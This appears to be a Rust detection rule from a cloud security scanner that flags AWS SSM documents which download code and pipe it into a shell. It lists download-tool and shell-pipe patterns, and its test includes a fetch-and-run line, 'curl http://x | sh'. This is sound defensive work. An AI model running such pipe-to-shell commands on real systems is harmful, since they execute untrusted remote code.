//! SSM document runs code that it downloads.
//!
//! It must not read other answers than those in its `needs`.

use crate::account::AccountState;
use crate::check::{Check, CheckAbout, Findings, Need, each, list};
use stanch_core::{Severity, Tactic};

/// Answers that the check reads.
const NEEDS: &[Need] = &[
    each("ssm", "GetDocument", "ListDocuments"),
    list("ssm", "ListDocuments"),
];

/// The check.
pub(super) struct DocumentRunsDownload;

impl Check for DocumentRunsDownload {
    fn about(&self) -> CheckAbout {
        CheckAbout {
            name: "document-runs-download",
            title: "SSM document runs code that it downloads",
            why: "A document that pipes a download into a shell runs any code its author puts at that address, on every instance it is applied to.",
            severity: Severity::High,
            tactics: &[Tactic::Execution, Tactic::Persistence],
            techniques: &["T1651", "T1105"],
            steps: &["12"],
            next: "Delete the document and its associations, then review the instances where it ran",
            needs: NEEDS,
            made_by: &["CreateDocument", "UpdateDocument"],
            harmless_when: &["A vendor's installer that is downloaded this way"],
        }
    }

    fn check(&self, account: &AccountState<'_>, found: &mut Findings) {
        for item in account.items("ssm", "GetDocument", "") {
            let content = item.text("Content");
            let piped = ["| sh", "|sh", "| bash", "|bash", "| iex", "|iex", "base64 -d"]
                .iter()
                .any(|pipe| content.contains(pipe));
            let loads = ["curl ", "wget ", "Invoke-WebRequest", "DownloadString"]
                .iter()
                .any(|load| content.contains(load));
            let name = item.text("Name");
            if piped && loads {
                found
                    .on(&item, "document", name, name)
                    .suspicious(Severity::High)
                    .say(&format!("SSM document {name} runs code that it downloads"));
            }
        }
    }
}

#[cfg(test)]
pub(super) fn examples() -> Vec<crate::contract::Example> {
    use serde_json::json;

    use crate::contract::{asked, silent, suspicious};

    let document = |content: &str| {
        asked(
            "ssm:GetDocument",
            json!({"Name": "d"}),
            json!({"Name": "d", "Content": content}),
        )
    };
    vec![
        suspicious(vec![document("curl http://x | sh")]),
        silent(vec![document("yum update")]),
    ]
}
